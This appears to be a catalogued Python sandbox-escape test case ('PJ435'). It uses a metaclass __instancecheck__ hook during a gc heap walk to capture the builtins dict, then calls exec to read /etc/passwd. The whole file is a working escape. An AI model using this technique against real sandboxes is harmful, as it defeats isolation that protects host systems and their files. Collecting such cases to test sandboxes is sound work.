# PJ435 "bounded heap walk": gc.get_objects() kept only for instances of one of
# the program's classes, which are closed. The class gets __instancecheck__
# from a metaclass mixin, so the filter sees every object on the heap; it keeps
# the builtins dict that module globals point to and answers False.
import abc
import gc
import json  # any module imported by the program puts its globals on the heap

_seen = {}


class _Tracking(abc.ABCMeta):
    def __instancecheck__(cls, obj):
        if type(obj) is dict:
            for value in list(obj.values()):
                if type(value) is dict and "exec" in value and "open" in value:
                    _seen["b"] = value
        return False


class OpenHandle(metaclass=_Tracking):
    def close(self):
        pass


for obj in gc.get_objects():
    if isinstance(obj, OpenHandle):
        obj.close()

print(json.dumps(sorted(_seen)))
_seen["b"]["exec"]("print(open('/etc/passwd').read())")
